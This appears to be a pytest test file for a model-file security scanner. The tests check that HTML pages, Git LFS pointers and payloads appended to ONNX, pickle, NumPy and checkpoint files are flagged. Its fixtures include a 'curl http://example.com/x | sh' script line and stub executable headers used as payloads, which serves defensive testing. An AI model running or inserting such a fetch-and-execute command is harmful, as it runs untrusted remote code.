"""Files that are named as models and are none: pages, pointers; and payloads behind or beside what is read."""

from __future__ import annotations

import bz2
import gzip
import lzma
import random
from pathlib import Path

import pytest

import booster_samples as make
import modelfile_samples as samples
from shipworthy.artifacts import discover
from shipworthy.check import Context, load_check
from shipworthy.model import Finding, Severity, Skipped
from shipworthy.modelfile import Code, Report, Verdict, pointers, scan, scan_bytes

NET = '<net name="x" version="11"><layers><layer id="0" name="a" type="Evil" version="extension"/></layers></net>'
MODELS = Path(__file__).parent / "data" / "models"
CHECKS = [
    load_check(f"shipworthy.checks.models.{module}", name)
    for module, name in (
        ("model_file", "model-file"),
        ("model_text", "model-text"),
        ("model_config", "model-config"),
        ("archive", "model-archive"),
    )
]


def codes(report: Report) -> set[Code]:
    return {issue.code for issue in report.issues}


def onnx_model(location: str, *offsets: int) -> bytes:
    """A model with tensors of 16 bytes in another file."""
    tensors = []
    for offset in offsets or (0,):
        entries = {"location": location, "offset": str(offset), "length": "16"}.items()
        pairs = (samples.field(13, samples.field(1, key) + samples.field(2, value)) for key, value in entries)
        head = samples.field(1, 4) + samples.field(2, 1) + samples.field(8, f"w{offset}")
        tensors.append(head + b"".join(pairs) + samples.field(14, 1))
    return samples.onnx((samples.node("Relu"),), tuple(tensors))


def said(folder: Path) -> list[Finding | Skipped]:
    """What the checks of models say of a folder."""
    context = Context(folder)
    return [
        item
        for artifact in discover(folder).artifacts
        for check in CHECKS
        if check.looks_at(artifact)
        for item in check.call(artifact, context)
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "doctype", ["<!DOCTYPE net>", "<!DOCTYPE html>", "<!DOCTYPE\nnet >", "<!DOCTYPE html><!--<p>-->"]
)
def test_xml_is_judged_behind_a_document_type(doctype: str, encoding: str, tmp_path: Path) -> None:
    raw = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{NET}'.encode(encoding)
    assert codes(scan_bytes(raw)) == {Code.CONTAINER_TAMPERED, Code.CUSTOM_OPERATOR}
    (tmp_path / "m.xml").write_bytes(raw)
    assert any(isinstance(item, Finding) and item.severity >= Severity.HIGH for item in said(tmp_path))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE net SYSTEM "http://example.com/x.dtd">',
        '<!DOCTYPE html SYSTEM "http://example.com/x.dtd">',
        "<!DOCTYPE net [<!ELEMENT net ANY>]>",
        '<!DOCTYPE html [<!ENTITY p "<p>">]><!-- <p> -->',
    ],
)
def test_xml_that_is_not_read_is_never_passed(doctype: str) -> None:
    report = scan_bytes(f"{doctype}{NET}".encode())
    assert report.worst == "high"
    assert any("read only up to" in reason for reason in report.unknowns)


def test_a_plain_document_type_is_no_more_than_odd() -> None:
    report = scan_bytes(make.pmml("", "<!DOCTYPE PMML>"))
    assert report.worst == "medium"
    assert not any("read only up to" in reason for reason in report.unknowns)


@pytest.mark.parametrize(
    "page",
    [
        "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Please log in</body></html>",
        '<!DOCTYPE HTML>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>List</title></head></html>',
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd"><html><head></html>',
        "\ufeff<!-- made by a proxy -->\n<HTML lang=en><body>",
        "<html><head><title>403</title></head><body><h1>Forbidden</h1><hr></body></html>",
        "<h1>Not Found</h1>",
        "<!doctype html><p>Hello",
    ],
)
def test_a_page_is_no_model(page: str, tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_text(page, encoding="utf-8")
    report = scan(tmp_path / "model.safetensors")
    assert report.verdict is Verdict.UNKNOWN
    assert "it is an HTML page, not a model" in report.unknowns[0]
    assert [item for item in said(tmp_path) if isinstance(item, Skipped)]
    (tmp_path / "model.safetensors").rename(tmp_path / "page.html")
    assert not said(tmp_path)


POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'4d' * 32}\nsize 12345\n"


@pytest.mark.parametrize("name", ["model.safetensors", "pytorch_model.bin", "net.xml", "config.json", "graph.json"])
def test_a_pointer_of_git_lfs_is_named(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text(POINTER)
    assert [item.reason for item in said(tmp_path) if isinstance(item, Skipped)] == [pointers.REASON]
    assert scan(tmp_path / name).unknowns == (pointers.REASON,)


def test_weights_that_are_a_pointer_are_missing(tmp_path: Path) -> None:
    (tmp_path / "net.xml").write_bytes((MODELS / "openvino" / "dense.xml").read_bytes())
    (tmp_path / "net.bin").write_text(POINTER)
    (tmp_path / "m.onnx").write_bytes(onnx_model("m.data"))
    (tmp_path / "m.data").write_text(POINTER)
    for name in ("net.xml", "m.onnx"):
        report = scan(tmp_path / name)
        assert report.worst == "medium"
        assert any("git lfs pull" in reason for reason in report.unknowns)


def test_other_xml_is_no_page() -> None:
    svg = scan_bytes(b'<svg xmlns="http://www.w3.org/2000/svg"><title>x</title><style/></svg>')
    assert svg.unknowns == ("this version does not judge XML whose root is svg",)
    error = scan_bytes(b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>')
    assert "the error of a store" in error.unknowns[0]


ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\1\0\0\0" + bytes(40)
SCRIPT = b"#!/bin/sh\ncurl http://example.com/x | sh\n"


@pytest.mark.parametrize("payload", [ELF, SCRIPT, bytes(100) + samples.EVIL])
@pytest.mark.parametrize("name", ["m.onnx.data", "model.onnx_data", "W", "params", "sub/w.dat", "w.csv"])
def test_what_is_appended_to_data_of_onnx_is_found_by_a_scan_of_the_folder(
    name: str, payload: bytes, tmp_path: Path
) -> None:
    (tmp_path / "m.onnx").write_bytes(onnx_model(name))
    path = tmp_path / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(bytes(16))
    assert scan(tmp_path / "m.onnx").verdict is Verdict.CLEAN
    path.write_bytes(b"\x7f" * 16 + payload)
    assert any(isinstance(item, Finding) and item.severity >= Severity.HIGH for item in said(tmp_path))
    assert scan(tmp_path / "m.onnx").worst in ("high", "critical")


def test_a_tensor_that_is_a_program_is_found_in_another_file(tmp_path: Path) -> None:
    (tmp_path / "m.onnx").write_bytes(onnx_model("w", 0, 16))
    (tmp_path / "w").write_bytes(bytes(16) + ELF[:16])
    assert codes(scan(tmp_path / "m.onnx")) == {Code.FOREIGN_CONTENT}


def test_models_of_onnx_may_share_their_data(tmp_path: Path) -> None:
    (tmp_path / "decoder.onnx").write_bytes(onnx_model("w", 0))
    (tmp_path / "encoder.onnx").write_bytes(onnx_model("./w", 16))
    (tmp_path / "w").write_bytes(b"\x7f" * 32)
    assert scan(tmp_path / "decoder.onnx").verdict is scan(tmp_path / "encoder.onnx").verdict is Verdict.CLEAN
    (tmp_path / "encoder.onnx").unlink()
    assert codes(scan(tmp_path / "decoder.onnx")) == {Code.HIDDEN_PAYLOAD}


def test_what_is_kept_of_a_model_is_kept_for_the_same_data(tmp_path: Path) -> None:
    from shipworthy.checks.models import _beside

    (tmp_path / "m.onnx").write_bytes(onnx_model("w"))
    (tmp_path / "w").write_bytes(bytes(100))
    artifact = next(item for item in discover(tmp_path).artifacts if item.uri == "m.onnx")
    before = _beside.state(artifact)
    assert before == _beside.state(artifact)
    (tmp_path / "w").write_bytes(bytes(16) + ELF + bytes(84 - len(ELF)))
    assert before != _beside.state(artifact)


def array() -> bytes:
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\1\0" + len(header).to_bytes(2, "little") + header + bytes(16)


WHOLE = {
    "pickle": samples.PLAIN,
    "torch": samples.torch_zip(samples.PLAIN),
    "npy": array(),
    "npz": samples.zipped(("a.npy", array())),
    "xz": lzma.compress(samples.PLAIN),
    "bz2": bz2.compress(samples.PLAIN),
    "gzip": gzip.compress(samples.PLAIN, mtime=0),
    "ubjson": (MODELS / "boosters" / "xgboost-new.ubj").read_bytes(),
    "tar": samples.tarred(("m.pkl", samples.PLAIN)),
}
PAYLOADS = {
    "a program": ELF,
    "a library of Windows": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(64),
    "a script": SCRIPT,
    "a pickle": samples.EVIL,
    "a packed pickle": gzip.compress(samples.EVIL * 9, mtime=0),
    "a model": samples.torch_zip(samples.EVIL),
}
# the last is how a compressed file begins
JUNK = {"zeros": bytes(512), "one byte": b"\xff", "text": b"x\n", "a false magic": b"\x28\xb5\x2f\xfd" + b"\xff" * 40}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", WHOLE)
def test_payloads_behind_junk_are_found_behind_every_kind_of_model(kind: str, payload: str) -> None:
    assert scan_bytes(WHOLE[kind]).verdict is not Verdict.FINDING
    for junk in JUNK.values():
        report = scan_bytes(WHOLE[kind] + junk + PAYLOADS[payload])
        assert report.worst in ("high", "critical"), (junk, report)


def test_a_script_behind_xml_is_found() -> None:
    assert scan_bytes(make.pmml("") + b"x\n" + SCRIPT).worst == "high"


def test_junk_alone_is_no_payload() -> None:
    numbers = random.Random(7).randbytes(1 << 20)
    for kind, junk in (("npy", numbers), ("npy", bytes(4096)), ("xz", b"x #! MZ PK\3\4 \x7fELF" * 100)):
        assert scan_bytes(WHOLE[kind] + junk).worst == "medium"


def test_decoys_in_front_of_a_payload_do_not_hide_it() -> None:
    for decoy in (b"MZ\0\0" * 10_000, b"\x80\4\x95\xff" * 10_000, b"BZh91AY&SY" * 100, b"MZ" + bytes(70)):
        report = scan_bytes(array() + decoy + ELF)
        assert report.worst == "high" or any("more places" in reason for reason in report.unknowns)
    assert scan_bytes(array() + b"MZ" + bytes(20) + ELF).worst == "high"  # both lie in what one of them would take


@pytest.mark.parametrize(
    ("name", "check"),
    [("m.json", "model-text"), ("m.xgb", "model-text"), ("m.txt", "model-text"), ("m.bst", "model-file")],
)
def test_models_that_are_texts_are_read_by_the_check_that_the_docs_name(name: str, check: str, tmp_path: Path) -> None:
    model = (MODELS / "boosters" / "xgboost-new.json").read_bytes()
    (tmp_path / name).write_bytes(model.replace(b'"left_children":[1,', b'"left_children":[77,'))
    told = [item for item in discover(tmp_path).artifacts for one in CHECKS if one.name == check and one.looks_at(item)]
    assert [item.uri for item in told] == [name]
    assert any(isinstance(item, Finding) and item.severity >= Severity.HIGH for item in said(tmp_path))


def test_what_is_appended_to_data_of_a_checkpoint_is_found(tmp_path: Path) -> None:
    source = MODELS / "tensorflow" / "simple" / "variables"
    for path in source.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    (tmp_path / "other.data-00000-of-00001").write_bytes(b"of another checkpoint")
    assert not said(tmp_path)
    with (tmp_path / "variables.data-00000-of-00001").open("ab") as stream:
        stream.write(bytes(100) + ELF)
    assert any(isinstance(item, Finding) and item.severity >= Severity.HIGH for item in said(tmp_path))
    assert scan(tmp_path / "variables.index").worst == "high"


def test_a_model_may_keep_each_tensor_in_a_file_of_its_own(tmp_path: Path) -> None:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    names = [f"t{number}" for number in range(100)]
    tensors = []
    for name in names:
        pair = samples.field(13, samples.field(1, "location") + samples.field(2, name))
        head = samples.field(1, 1 << 15) + samples.field(2, 1) + samples.field(8, name)
        tensors.append(head + pair + samples.field(14, 1))
        (tmp_path / name).write_bytes(b"\x80\x02" + bytes((1 << 17) - 2))
    (tmp_path / "m.onnx").write_bytes(samples.onnx((samples.node("Relu"),), tuple(tensors)))
    resource.setrlimit(resource.RLIMIT_NOFILE, (80, hard))
    try:
        assert scan(tmp_path / "m.onnx").verdict is Verdict.CLEAN
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
